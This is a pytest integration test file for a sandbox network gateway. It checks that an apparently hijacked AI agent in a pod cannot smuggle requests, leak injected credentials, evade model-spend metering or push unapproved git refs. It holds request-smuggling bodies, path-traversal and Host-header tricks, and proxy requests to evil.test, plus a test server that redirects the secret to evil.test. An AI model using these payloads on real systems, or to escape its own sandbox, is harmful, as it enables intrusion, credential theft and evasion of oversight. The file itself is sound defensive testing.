"""A hijacked agent that has read all the source, against TLS that is opened, credentials, a model's meter, and pushes.

Most attempts are raw bytes that a program in the pod says to the gateway; what matters is what the outside saw. Every
attempt's name is in its own request target, so that a request that got through can be told whose it was.
"""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from integration import test_services as services
from integration.held import Held
from integration.world import World
from nucleus.errors import InvalidError
from nucleus.network import models
from nucleus.network.exchange import Answered, Refused
from nucleus.network.httphead import Head, HeadError, clean_path, strip_query
from nucleus.network.metering import Metered
from nucleus.network.pushes import Push
from nucleus.network.receive_pack import Commands, Update, difference

SECRET, KEY = "planted-secret-1234", "sk-planted-key-9999"
API, MODEL, ELSE = "93.184.216.36", "93.184.216.34", "93.184.216.35"
POLICY = """
version: 1
name: attacked
capabilities: {read_files: always, write_files: always, run_bash: always}
commands: {allow: everything}
trifecta: session
budget: {limit_usd: "%s"}
network:
  allow:
    - {host: api.test, methods: [GET, POST], paths: ["/v1/**", /echo], credential: token, trusted: true}
    - {host: api.test, port: 9443, protocol: https, methods: [GET], credential: token, trusted: true}
    - {host: other.test, port: 80, methods: [GET], paths: ["/open/*"], trusted: true}
    - {model: anthropic, host: allowed.test, credential: key, price: {input: 3000000, output: 15000000}}
"""

# In the pod: each attempt on a connection of its own, a few at a time; what was answered, as JSON.
DRIVER = r"""
import base64, json, socket, ssl, sys
from concurrent.futures import ThreadPoolExecutor

def one(attempt):
    name, host, port, tls, sni, raws, wait = attempt
    said = b""
    try:
        sock = socket.create_connection((host, port), 10)
        if tls:
            context = ssl.create_default_context(cafile="/run/nucleus/gateway.pem")
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(tls)
            sock = context.wrap_socket(sock, server_hostname=sni or None)
        sock.settimeout(wait)
        for raw in raws:
            sock.sendall(base64.b64decode(raw))
        while data := sock.recv(65536):
            said += data
    except OSError as error:
        said += b"\n<%s>" % repr(error).encode()
    return name, said.decode("latin-1")[:20000]

with ThreadPoolExecutor(6) as pool:
    print(json.dumps(dict(pool.map(one, json.load(open(sys.argv[1]))))))
"""

# Outside, at port 9443: servers that say what they were asked where HTTP has no place for it.
ODD = r"""
import socket, ssl, sys, threading
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[1])
listener = socket.create_server(("93.184.216.36", 9443))

def serve(client):
    with context.wrap_socket(client, server_side=True) as sock:
        head = b""
        while b"\r\n\r\n" not in head:
            head += sock.recv(65536)
        line = next(one for one in head.split(b"\r\n") if one.lower().startswith(b"authorization"))
        value = line.split(b": ")[1]
        sock.sendall({
            b"/header": b"HTTP/1.1 200 OK\r\n" + value + b"\r\nContent-Length: 0\r\n\r\n",
            b"/status": value + b"\r\n\r\n",
            b"/chunk": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + value + b"\r\n",
            b"/length": b"HTTP/1.1 200 OK\r\nContent-Length: " + value + b"\r\n\r\n",
            b"/reason": b"HTTP/1.1 200 " + value + b"\r\nContent-Length: 0\r\n\r\n",
            b"/location": b"HTTP/1.1 302 F\r\nContent-Length: 0\r\nLocation: https://evil.test/" + value[7:]
                + b"\r\n\r\n",
            b"/trailer": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: " + value + b"\r\n\r\n",
            b"/interim": b"HTTP/1.1 103 E\r\nLink: " + value + b"\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
            b"/pieces": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                + b"".join(b"1\r\n%c\r\n" % one for one in value) + b"0\r\n\r\n",
            b"/gzip": b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc",
            b"/part": b"HTTP/1.1 206 P\r\nContent-Range: bytes 0-2/9\r\nContent-Length: 3\r\n\r\n" + value[7:10],
            b"/switch": b"HTTP/1.1 101 S\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n" + value,
        }[head.split(b" ")[1]])
        sock.unwrap()

while True:
    client = listener.accept()[0]
    def guarded(client=client):
        try:
            serve(client)
        except OSError:
            pass
    threading.Thread(target=guarded, daemon=True).start()
"""
ODDITIES = ("header", "status", "chunk", "length", "reason", "location", "trailer", "interim", "pieces", "gzip", "part")
ODDITIES += ("switch",)


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    made = World()
    odd = made.server(sys.executable, "-c", ODD, str(made.outside / "leaf.pem"))
    try:
        assert made.cli("credentials", "set", "token", feed=f"{SECRET}\n").returncode == 0
        assert made.cli("credentials", "set", "key", "--kind", "key", feed=KEY).returncode == 0
        yield made
    finally:
        odd.terminate()
        odd.wait(10)
        made.close()


def run(world: World, *argv: str, budget: str = "20.00") -> subprocess.CompletedProcess[str]:
    policy = world.policy(POLICY % budget)
    return world.cli("exec", "--policy", policy, "--workdir", str(world.workspace), "--", *argv)


def attempts_in_a_pod(world: World, attempts: list[list[Any]], budget: str = "20.00") -> dict[str, str]:
    world.write("driver.py", DRIVER)
    world.write("attempts.json", json.dumps(attempts))
    done = run(world, "python3", "driver.py", "attempts.json", budget=budget)
    assert done.returncode == 0, done.stderr
    found: dict[str, str] = json.loads(done.stdout)
    return found


def tls(name: str, *raws: str, sni: str = "api.test", port: int = 443, alpn: str = "http/1.1") -> list[Any]:
    coded = [base64.b64encode(raw.encode("latin-1")).decode() for raw in raws]
    return [name, "api.test", port, [alpn], sni, coded, 1.5]


def clear(name: str, *raws: str, host: str = "other.test", port: int = 80) -> list[Any]:
    return [name, host, port, [], "", [base64.b64encode(raw.encode("latin-1")).decode() for raw in raws], 1.5]


# --- requests that no rule lists ---

HEAD = "Host: api.test\r\nConnection: close\r\n"


def get(target: str, more: str = "", method: str = "GET", host: str = HEAD) -> str:
    return f"{method} {target} HTTP/1.1\r\n{host}{more}\r\n"


SMUGGLED = "GET /admin/%s HTTP/1.1\r\nHost: api.test\r\n\r\n"


def with_body(name: str, headers: str, body: str, host: str = "Host: api.test\r\n") -> list[Any]:
    return tls(name, f"POST /v1/{name} HTTP/1.1\r\n{host}{headers}\r\n{body}")


CHUNKED = "Transfer-Encoding: chunked\r\n"
FRAMING = [
    with_body("cl_te", f"Content-Length: 4\r\n{CHUNKED}", "0\r\n\r\n" + SMUGGLED % "cl_te"),
    with_body("te_cl", f"{CHUNKED}Content-Length: 4\r\n", "5c\r\n" + SMUGGLED % "te_cl" + "0\r\n\r\n"),
    with_body("cl_cl", "Content-Length: 0\r\nContent-Length: 44\r\n", SMUGGLED % "cl_cl"),
    with_body("cl_list", "Content-Length: 0, 44\r\n", SMUGGLED % "cl_list"),
    with_body("cl_plus", "Content-Length: +44\r\n", SMUGGLED % "cl_plus"),
    with_body("cl_hex", "Content-Length: 0x2c\r\n", SMUGGLED % "cl_hex"),
    with_body("cl_underscore", "Content_Length: 44\r\n", SMUGGLED % "cl_underscore"),
    with_body("cl_space", "Content-Length : 44\r\n", SMUGGLED % "cl_space"),
    with_body("te_te", f"{CHUNKED}Transfer-Encoding: identity\r\n", "0\r\n\r\n" + SMUGGLED % "te_te"),
    with_body("te_xchunked", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + SMUGGLED % "te_xchunked"),
    with_body("te_gzip", "Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n" + SMUGGLED % "te_gzip"),
    with_body("te_tab", "Transfer-Encoding:\tchunked\x0b\r\n", "0\r\n\r\n" + SMUGGLED % "te_tab"),
    with_body("te_fold", "Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n" + SMUGGLED % "te_fold"),
    with_body("te_underscore", "Transfer_Encoding: chunked\r\n", "0\r\n\r\n" + SMUGGLED % "te_underscore"),
    with_body("fold", "X: y\r\n\tHost: other.test\r\n", ""),
    with_body("bare_lf", "X: y\nX-HTTP-Method-Override: DELETE\r\n", ""),
    with_body("bare_cr", "X: y\rHost: other.test\r\n", ""),
    with_body("nul", "X: y\0\r\n", ""),
    with_body("chunk_lf", CHUNKED, "0\n\n" + SMUGGLED % "chunk_lf"),
    with_body("chunk_long", CHUNKED, "FFFFFFFFFFFFFFFFFFFFF\r\n" + SMUGGLED % "chunk_long"),
    with_body("chunk_negative", CHUNKED, "-1\r\n" + SMUGGLED % "chunk_negative"),
    with_body("chunk_overrun", CHUNKED, "1\r\nxx\r\n0\r\n\r\n" + SMUGGLED % "chunk_overrun"),
    with_body("chunk_extension", CHUNKED, "1;a=\"\r\nx\r\n0\r\n\r\n" + SMUGGLED % "chunk_extension"),
    with_body("chunk_extension_lf", CHUNKED, "1;a\nb\r\nx\r\n0\r\n\r\n" + SMUGGLED % "chunk_extension_lf"),
    with_body("trailer", CHUNKED, "0\r\nX-HTTP-Method-Override: DELETE\r\nAuthorization: mine\r\n\r\n"),
    with_body("expectation", "Expect: 100-continue, x\r\nContent-Length: 0\r\n", ""),
    with_body("expect_then_smuggle", "Expect: 100-continue\r\nContent-Length: 0\r\n", SMUGGLED % "expect_then_smuggle"),
    with_body("version_1_0", f"{CHUNKED}", "0\r\n\r\n").copy(),
    tls("get_body", get("/v1/get_body", "Content-Length: 44\r\n") + SMUGGLED % "get_body"),
    tls("pipelined", f"GET /v1/pipelined HTTP/1.1\r\nHost: api.test\r\n\r\n{SMUGGLED % 'pipelined'}"),
    tls("http_0_9", "GET /admin/http_0_9\r\n\r\n"),
    tls("version_2", "GET /v1/version_2 HTTP/2.0\r\nHost: api.test\r\n\r\n"),
    tls("h2_preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\0" * 9, alpn="h2"),
    tls("websocket", get("/v1/websocket", "Connection: Upgrade\r\nUpgrade: websocket\r\n")),
    tls("h2c_list", get("/v1/h2c_list", "Upgrade: h2c, websocket\r\n")),
]  # fmt: skip
TARGETS = {
    "dots": "/v1/../admin/dots", "dots_encoded": "/v1/%2e%2e/admin/dots_encoded",
    "dots_twice": "/v1/%252e%252e/admin/dots_twice", "dots_thrice": "/v1/%25252e%25252e/admin/dots_thrice",
    "dots_five": "/v1/%2525252525252e./admin/dots_five", "dots_mixed": "/v1/.%2E/admin/dots_mixed",
    "slash": "/v1/..%2fadmin/slash", "slash_twice": "/v1/..%252fadmin/slash_twice",
    "backslash": "/v1/..\\admin/backslash", "backslash_encoded": "/v1/..%5cadmin/backslash_encoded",
    "parameter": "/v1/..;/admin/parameter", "parameter_encoded": "/v1/..%3b/admin/parameter_encoded",
    "space": "/v1/..%20/admin/space", "tab": "/v1/..%09/admin/tab", "nul": "/v1/x%00/../admin/nul",
    "dot": "/v1/./../admin/dot", "overlong": "/v1/%c0%ae%c0%ae/admin/overlong",
    "overlong_slash": "/v1/x%c0%af..%c0%afadmin/overlong_slash", "double_slash": "//v1/double_slash",
    "inner_double": "/v1//../admin/inner_double", "case": "/V1/case", "prefix": "/v1admin/prefix", "root": "/root",
    "hash": "/v1/x#/admin/hash", "query_only": "?/v1/query_only", "question": "/admin/question%3f/v1/x",
    "encoded_slash": "/v1%2f..%2fadmin/encoded_slash", "first": "%2fv1/first", "star": "*", "relative": "v1/relative",
    "other_scheme": "ftp://api.test/v1/other_scheme", "https_absolute": "https://api.test/v1/https_absolute",
    "http_absolute": "http://api.test/v1/http_absolute", "http_other": "http://other.test/v1/http_other",
    "user": "https://api.test@other.test/v1/user", "broken": "/v1/%zz/broken", "half": "/v1/half%2",
    "utf16": "/v1/%u002e%u002e/admin/utf16", "line": "/v1/x%0d%0aHost:%20other.test/line",
}  # fmt: skip
METHODS = ("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "CONNECT", "get", "GETX", "PROPFIND", "MOVE")
HEADERS = {
    "override": "X-HTTP-Method-Override: DELETE\r\n", "override_underscore": "X_HTTP_Method_Override: DELETE\r\n",
    "override_short": "X-HTTP-Method: DELETE\r\n", "override_other": "X-Method-Override: DELETE\r\n",
}  # fmt: skip
HOSTS = {
    "other": "Host: other.test\r\n", "twice": "Host: api.test\r\nHost: other.test\r\n", "none": "",
    "twice_same": "Host: api.test\r\nHost: api.test\r\n", "port": "Host: api.test:80\r\n", "list":
    "Host: api.test, other.test\r\n", "user": "Host: api.test@other.test\r\n", "path": "Host: api.test/other.test\r\n",
    "dots": "Host: api.test..\r\n", "empty": "Host: \r\n", "below": "Host: x.api.test\r\n", "tab":
    "Host: api.test\tother.test\r\n", "space_name": "Host : other.test\r\nHost: api.test\r\n", "port_long":
    "Host: api.test:000000443\r\n", "port_none": "Host: api.test:\r\n", "bracket": "Host: [api.test]\r\n",
}  # fmt: skip
REFUSED = [
    *FRAMING,
    *(tls(f"target_{name}", get(target)) for name, target in TARGETS.items()),
    *(tls(f"method_{name}", get(f"/v1/method_{name}", method=name)) for name in METHODS),
    *(tls(f"header_{name}", get(f"/v1/header_{name}", more)) for name, more in HEADERS.items()),
    *(tls(f"host_{name}", get(f"/v1/host_{name}", host=host)) for name, host in HOSTS.items()),
    tls("sni_other", get("/v1/sni_other"), sni="other.test"),
    tls("sni_none", get("/v1/sni_none"), sni=""),
    tls("sni_other_fronted", get("/v1/sni_other_fronted"), sni="allowed.test"),
    clear("plain_on_443", get("/v1/plain_on_443"), host="api.test", port=443),
    clear("plain_elsewhere", get("/shut/plain_elsewhere", host="Host: other.test\r\n")),
    clear("plain_post", get("/open/plain_post", "Content-Length: 0\r\n", "POST", "Host: other.test\r\n")),
    clear("proxy_443", "GET http://api.test:443/v1/proxy_443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
          host="127.0.0.1", port=3128),
    clear("proxy_https", "GET https://api.test/v1/proxy_https HTTP/1.1\r\nHost: api.test\r\n\r\n",
          host="127.0.0.1", port=3128),
    clear("proxy_two_hosts", "GET http://other.test/open/proxy_two_hosts HTTP/1.1\r\nHost: evil.test\r\n\r\n",
          host="127.0.0.1", port=3128),
    clear("proxy_second", "GET http://other.test/open/ok HTTP/1.1\r\nHost: other.test\r\n\r\n"
          "GET http://evil.test/open/proxy_second HTTP/1.1\r\nHost: evil.test\r\n\r\n", host="127.0.0.1", port=3128),
    clear("connect_early", "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n"
          "GET /v1/connect_early HTTP/1.1\r\nHost: api.test\r\n\r\n", host="127.0.0.1", port=3128),
    clear("connect_push", "CONNECT x.push.internal:80 HTTP/1.1\r\n\r\nGET /connect_push HTTP/1.1\r\n\r\n",
          host="127.0.0.1", port=3128),
]  # fmt: skip
# Read as HTTP has it, which is what a rule lists: the listed part goes, and nothing else of it.
PASSES = {"chunk_extension", "trailer", "expect_then_smuggle", "pipelined", "get_body", "version_1_0", "chunk_lf"}


@pytest.fixture(scope="module")
def answers(world: World) -> dict[str, str]:
    """Every attempt of `REFUSED`, in one pod."""
    return attempts_in_a_pod(world, REFUSED)


@pytest.mark.parametrize("name", [attempt[0] for attempt in REFUSED])
def test_no_request_that_no_rule_lists(answers: dict[str, str], world: World, name: str) -> None:
    mine = [one for one in world.seen(server="http") if name in one["target"].replace("/", " ").split()]
    for one in mine:
        where = one["address"], one["port"]
        listed = one["method"] in ("GET", "POST") and one["target"].startswith("/v1/") and where == (API, 443)
        assert listed, one
        assert one["headers"]["host"] == "api.test"
        assert one["headers"]["authorization"] == f"Bearer {SECRET}"
        assert not {"x-http-method-override", "upgrade", "te", "trailer"} & set(one["headers"])
    assert bool(mine) <= (name in PASSES), answers[name]
    assert SECRET not in answers[name]
    if name not in PASSES:  # said, not dropped: by HTTP or by TLS
        said = answers[name]
        assert "HTTP/1.1 4" in said or "HTTP/1.1 5" in said or "Error" in said or said == "", said


def test_nothing_of_them_is_anywhere_else(answers: dict[str, str], world: World) -> None:
    assert answers
    for one in world.seen(server="http"):
        assert (one["address"], one["headers"].get("host")) in {(API, "api.test"), (ELSE, "other.test")} or one[
            "address"
        ] == MODEL
        assert "/admin" not in one["target"]
        if one["address"] != API:
            assert SECRET not in json.dumps(one)
    assert not world.seen(server="udp")
    assert world.verify().returncode == 0


# --- the credential ---


def test_no_answer_brings_the_credential_into_the_pod_or_the_log(world: World) -> None:
    """A server that reflects it where HTTP has no place for it: no part of the answer, and no error about it."""
    answered = attempts_in_a_pod(
        world, [tls(name, get(f"/{name}", host="Host: api.test:9443\r\n"), port=9443) for name in ODDITIES]
    )
    assert "HTTP/1.1 302" in answered["location"], answered
    for said in answered.values():
        for part in (SECRET, SECRET[:8], base64.b64encode(SECRET.encode()).decode()):
            assert part not in said
    assert "HTTP/1.1 502" in answered["header"]
    assert SECRET not in world.audit_log.read_text()


NOT_THE_CLIENT_S = {
    "authorization": "Authorization: Bearer mine", "underscore": "X_Api_Key: mine", "gitlab": "Job-Token: mine",
    "deploy": "Deploy-Token: mine", "auth_token": "X-Auth-Token: mine", "apikey": "apikey: mine", "cookie":
    "Cookie: a=mine", "nominated": "Connection: authorization\r\nAuthorization: mine", "twice":
    "Authorization: mine\r\nAuthorization: mine", "case": "AUTHORIZATION: mine", "proxy": "Proxy-Authorization: mine",
    "amazon": "X-Amz-Security-Token: mine",
}  # fmt: skip
NOT_IN_THE_QUERY = ("access_token", "private_token", "job_token", "api_key", "apikey", "key", "PRIVATE_TOKEN")
NOT_IN_THE_QUERY += ("private%5ftoken", "X-Amz-Signature", "X-Amz-Credential", "X-Goog-Signature", "oauth_token")


def test_a_request_is_signed_by_nobody_but_the_rule(world: World) -> None:
    """With an identity of its own, the pod would speak to its own account at a host that is allowed."""
    tries = [tls(f"as_{name}", get(f"/v1/as_{name}", f"{more}\r\n")) for name, more in NOT_THE_CLIENT_S.items()]
    tries += [tls(f"query_{at}", get(f"/v1/query_{at}?a=1&{name}=mine")) for at, name in enumerate(NOT_IN_THE_QUERY)]
    attempts_in_a_pod(world, tries)
    for name, *_ in tries:
        seen = [one for one in world.seen(server="http") if one["target"].partition("?")[0] == f"/v1/{name}"]
        assert len(seen) == 1, name
        assert "mine" not in json.dumps([seen[0]["headers"], seen[0]["target"]]), seen
        assert seen[0]["headers"]["authorization"] == f"Bearer {SECRET}"


@pytest.mark.parametrize("name", NOT_IN_THE_QUERY)
def test_a_query_carries_no_credential(name: str) -> None:
    assert strip_query(f"?a=1&{name}=mine;b=2") == "?a=1;b=2"


@pytest.mark.parametrize("path", ["/v1/%c0%ae%c0%ae/admin", "/v1/x%C0%AFy", "/v1/%25c0%25ae/x", "/v1/%c1%9c/x"])
def test_an_overlong_dot_is_no_path(path: str) -> None:
    with pytest.raises(HeadError):
        clean_path(path)


# --- a model's budget ---

ASK: dict[str, Any] = {"model": "m", "max_tokens": 1000, "messages": [{"role": "user", "content": "hi"}]}
SPENDER = r"""
import json, os, sys, http.client
bodies = json.load(open("bodies.json"))
said = []
for name, headers, body, pad, most in bodies:
    connection = http.client.HTTPConnection("anthropic.model.internal", timeout=30)
    data = body.encode() + b" " * pad
    try:
        connection.request("POST", "/v1/messages", data, {"content-type": "application/json", **headers})
        answer = connection.getresponse()
        said.append((name, answer.status, (answer.read(most) if most else answer.read()).decode("latin-1")[:300]))
    except OSError as error:
        said.append((name, 0, repr(error)))
    connection.close()
print(json.dumps(said))
"""


def spend(world: World, *bodies: tuple[str, dict[str, str], str, int, int], budget: str = "20.00") -> list[list[Any]]:
    world.write("bodies.json", json.dumps(bodies))
    world.write("spend.py", SPENDER)
    done = run(world, "python3", "spend.py", budget=budget)
    assert done.returncode == 0, done.stderr
    found: list[list[Any]] = json.loads(done.stdout)
    return found


def charged(world: World, before: int) -> list[int]:
    found = [one for one in world.records()[before:] if one["event"] == "outcome"]
    return [one["context"]["charged"] for one in found if one["operation"].get("host") == "allowed.test"]


def test_a_padded_request_is_not_free(world: World) -> None:
    """17 MiB of blanks before the end of a JSON body use up the bytes of the first part, whose reservation is given
    back: what the answer costs has to be held, and charged, by the part that brings it."""
    before = len(world.records())
    said = spend(world, ("padded", {}, json.dumps({**ASK, "metadata": {"user_id": "9000"}}), 17 << 20, 0))
    assert said[0][1] == 200, said
    parts = charged(world, before)
    assert len(parts) > 1
    assert sum(parts) >= 100 * 3 + 9_000 * 15, parts


def test_a_stream_by_instalments_is_paid_in_full(world: World) -> None:
    before = len(world.records())
    body = {**ASK, "max_tokens": 1_000_000, "stream": True, "metadata": {"user_id": "9000"}}
    said = spend(world, ("stream", {}, json.dumps(body), 0, 0), budget="0.60")
    assert said[0][1] == 200
    found = [one for one in world.records()[before:] if one["event"] == "outcome" and one["operation"].get("upper")]
    assert len(found) > 2
    assert sum(one["context"]["charged"] for one in found) >= 100 * 3 + 9_000 * 15
    assert sum(one["context"]["charged"] for one in found) <= 600_000


BODIES = {
    "duplicate": '{"model":"m","max_tokens":1,"max_tokens":1000000,"messages":[{"role":"user","content":"hi"}]}',
    "duplicate_escaped":
    '{"model":"m","max_tokens":1,"max\\u005ftokens":1000000,"messages":[{"role":"user","content":"hi"}]}',
    "spelling": json.dumps({**ASK, "Max_Tokens": 10**6}), "camel": json.dumps({**ASK, "maxTokens": 10**6}),
    "completion": json.dumps({**ASK, "max_completion_tokens": 10**6}), "best_of": json.dumps({**ASK, "best_of": 20}),
    "n": json.dumps({**ASK, "n": 100}), "text": json.dumps({**ASK, "max_tokens": "1000000"}),
    "float": json.dumps({**ASK, "max_tokens": 1e3}), "bool": json.dumps({**ASK, "max_tokens": True}),
    "negative": json.dumps({**ASK, "max_tokens": -1}), "null": json.dumps({**ASK, "max_tokens": None}),
    "huge": json.dumps({**ASK, "max_tokens": 10**30}), "exponent": '{"max_tokens":1e999}',
    "nan": '{"model":"m","max_tokens":NaN,"messages":[]}', "digits": '{"max_tokens":' + "9" * 5000 + "}",
    "tier": json.dumps({**ASK, "service_tier": "priority"}), "fast": json.dumps({**ASK, "speed": "fast"}),
    "geo": json.dumps({**ASK, "inference_geo": "us"}), "fallbacks": json.dumps({**ASK, "fallbacks": [{"model": "x"}]}),
    "cache": json.dumps({**ASK, "cache_control": {"type": "ephemeral", "ttl": "24h"}}),
    "stream_text": json.dumps({**ASK, "stream": "true"}), "stream_number": json.dumps({**ASK, "stream": 1}),
    "bom": "\ufeff" + json.dumps(ASK), "two": json.dumps(ASK) * 2, "list": json.dumps([ASK]), "form": "max_tokens=1",
    "comment": json.dumps(ASK)[:-1] + ',/*"*/"max_tokens":1000000}', "single": str(ASK), "nothing": "",
    "nested": json.dumps({**ASK, "extra_body": {"max_tokens": 10**6}}), "batch": json.dumps({"requests": [ASK]}),
    "deep": "[" * 100_000,
    "compaction": json.dumps({**ASK, "context_management": {"edits": [{"type": "compact_20260112"}]}}),
}  # fmt: skip
ENCODED = {
    "gzip": {"content-encoding": "gzip"}, "underscore": {"content_encoding": "deflate"}, "utf7":
    {"content-type": "application/json; charset=utf-7"},
}  # fmt: skip


def test_no_body_says_less_than_it_costs(world: World) -> None:
    before = len(world.seen())
    wanted = [(name, {}, body, 0, 0) for name, body in BODIES.items()]
    wanted += [(f"encoded {name}", headers, json.dumps(ASK), 0, 0) for name, headers in ENCODED.items()]
    said = spend(world, *wanted)
    assert {name: status for name, status, _ in said if status != 403} == {}
    assert all('"kind": "model.' in text for _, _, text in said), said
    assert len(world.seen()) == before


def test_an_encoding_behind_an_empty_one(world: World) -> None:
    """Two headers are one list to a server, which would then inflate what was read here as JSON."""
    body = json.dumps(ASK)
    raw = (
        "POST /v1/messages HTTP/1.1\r\nHost: anthropic.model.internal\r\nConnection: close\r\nContent-Encoding:\r\n"
        f"Content-Encoding: deflate\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    )
    before = len(world.seen())
    said = attempts_in_a_pod(world, [clear("twice", raw, host="anthropic.model.internal")])["twice"]
    assert "model.json" in said
    assert len(world.seen()) == before


PATHS = ("/v1/messages/batches", "/v1/files", "/v1/complete", "/v1/messages/../complete", "/v1/messages?beta=true&x=1",
         "/v1//messages", "/v1/messages/", "/v1/messages;x", "/v1/messages%3fbeta", "/V1/messages", "/v1/messages%2f",
         "/v1/organizations/api_keys", "/v1/models/../messages/batches")  # fmt: skip


def test_no_other_path_of_a_model(world: World) -> None:
    before = len(world.seen())
    body = json.dumps(ASK)
    tail = f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    host = "anthropic.model.internal"
    tries = [
        clear(f"{at}{method}", f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{tail}", host=host)
        for at, path in enumerate(PATHS)
        for method in ("POST", "GET")
    ]
    tries += [clear(f"m{method}", f"{method} /v1/messages HTTP/1.1\r\nHost: {host}\r\n{tail}", host=host)
              for method in ("PUT", "DELETE", "OPTIONS", "GET")]  # fmt: skip
    said = attempts_in_a_pod(world, tries)
    assert all("HTTP/1.1 4" in text for text in said.values()), said
    assert len(world.seen()) == before


def test_a_stream_that_is_left_is_paid(world: World) -> None:
    """The client hangs up after a few bytes: what was streamed, and the input, are charged all the same."""
    before = len(world.records())
    body = {**ASK, "stream": True, "metadata": {"user_id": "50"}}
    spend(world, *[("left", {}, json.dumps(body), 0, 10)] * 3)
    assert len(charged(world, before)) == 3
    assert all(one >= 100 * 3 for one in charged(world, before))


def test_many_at_a_time_do_not_exceed_the_budget(world: World) -> None:
    before = len(world.records())
    body = {**ASK, "max_tokens": 4000, "metadata": {"user_id": "4000"}}
    code = (
        "import http.client, json, threading\n"
        f"body = json.dumps({body!r}).encode()\n"
        "def one():\n"
        "    c = http.client.HTTPConnection('anthropic.model.internal', timeout=30)\n"
        "    c.request('POST', '/v1/messages', body); r = c.getresponse(); print(r.status, flush=True); r.read()\n"
        "ts = [threading.Thread(target=one) for _ in range(24)]\n"
        "[t.start() for t in ts]; [t.join() for t in ts]\n"
    )
    done = run(world, "python3", "-c", code, budget="0.40")
    through = done.stdout.split().count("200")
    assert 0 < through < 24, done.stdout
    assert sum(charged(world, before)) <= 400_000
    # Each costs 60 300 micro-dollars: what the provider has been asked for is what was paid.
    assert through * 60_300 <= 400_000


def metered(body: dict[str, Any], api: str = "openai", path: str = "/v1/chat/completions") -> Metered:
    data = json.dumps(body).encode()
    head = Head("POST", "h", 443, path, "", (), "1.1", len(data), False, data)
    return Metered(api, (0, 1_000_000, 0, 0), head)


CHAT = {"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]}


@pytest.mark.parametrize(
    ("more", "least"),
    [
        ({}, 128_000),  # no bound is named: the most that a model of theirs writes
        ({"model": "gpt-4o"}, 16_384),
        ({"max_tokens": 1, "max_completion_tokens": 900_000}, 900_000),
        ({"max_tokens": None}, 128_000),
        ({"max_tokens": 10, "n": 100}, 1_000),
        ({"max_tokens": 1, "prediction": {"type": "content", "content": "x" * 5_000}}, 5_001),  # rejected, and billed
    ],
)
def test_what_is_reserved_is_the_most(more: dict[str, Any], least: int) -> None:
    assert metered({**CHAT, **more}).upper >= least


class _Ended:
    """An exchange that has ended in the middle of an answer, as `Metered` sees one."""

    def __init__(self, kind: bytes = b"text/event-stream") -> None:
        self.reply = ((b"Content-Type", kind),)
        self.up, self.status, self.head = 100, 200, None


@pytest.mark.parametrize("api", ["openai", "anthropic"])
def test_reasoning_that_is_left_is_paid(api: str) -> None:
    """What a model has thought is billed, and not in the stream: one that hangs up pays what was reserved."""
    body: dict[str, Any] = {**CHAT, "stream": True, "max_tokens": 50_000}
    first = b'data: {"choices": [{"delta": {"content": "a"}}]}\n\n'
    path = "/v1/chat/completions"
    if api == "anthropic":
        body |= {"thinking": {"type": "enabled", "budget_tokens": 40_000}}
        first = b'data: {"type": "message_start", "message": {"usage": {"input_tokens": 9}}}\n\n'
        path = "/v1/messages"
    one = metered(body, api, path)
    one.observe(_Ended(), first)  # type: ignore[arg-type]
    one.over(_Ended())  # type: ignore[arg-type]
    assert one.part() >= 50_000


def test_digits_that_are_left_are_paid() -> None:
    """A digit may be a token of its own: of a stream that has no figures, a byte is one."""
    one = metered({**CHAT, "model": "gpt-4o", "stream": True, "max_tokens": 50_000})
    text = json.dumps({"choices": [{"delta": {"content": "7" * 1_000}}]})
    one.observe(_Ended(), f"data: {text}\n\n".encode())  # type: ignore[arg-type]
    one.over(_Ended())  # type: ignore[arg-type]
    assert one.part() >= 1_000


# --- pushes ---

OLD, NEW, EVIL = "1" * 40, "2" * 40, "3" * 40
WANTED = (Update("refs/heads/topic", OLD, NEW),)
CAPS = "\0report-status-v2 side-band-64k agent=git/2"


def line(text: str) -> bytes:
    data = text.encode("latin-1")
    return b"%04x" % (len(data) + 4) + data


PUSHES = {
    "another_ref": line(f"{OLD} {NEW} refs/heads/main{CAPS}") + b"0000",
    "another_object": line(f"{OLD} {EVIL} refs/heads/topic{CAPS}") + b"0000",
    "another_old": line(f"{EVIL} {NEW} refs/heads/topic{CAPS}") + b"0000",
    "deleted": line(f"{OLD} {'0' * 40} refs/heads/topic{CAPS}") + b"0000",
    "one_more": line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + line(f"{OLD} {EVIL} refs/heads/main") + b"0000",
    "twice": line(f"{OLD} {NEW} refs/heads/topic{CAPS}") * 2 + b"0000",
    "none": b"0000",
    "no_flush": line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + b"PACK",
    "delimiter": line(f"{OLD} {NEW} refs/heads/topic{CAPS}")
    + b"0001"
    + line(f"{OLD} {EVIL} refs/heads/main")
    + b"0000",
    "response_end": line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + b"0002",
    "empty_line": b"0004" + line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + b"0000",
    "shallow": line(f"shallow {EVIL}") + line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + b"0000",
    "certificate": line("push-cert\0report-status") + b"0000",
    "options": line(f"{OLD} {NEW} refs/heads/topic\0push-options") + b"0000" + line("ci.skip") + b"0000",
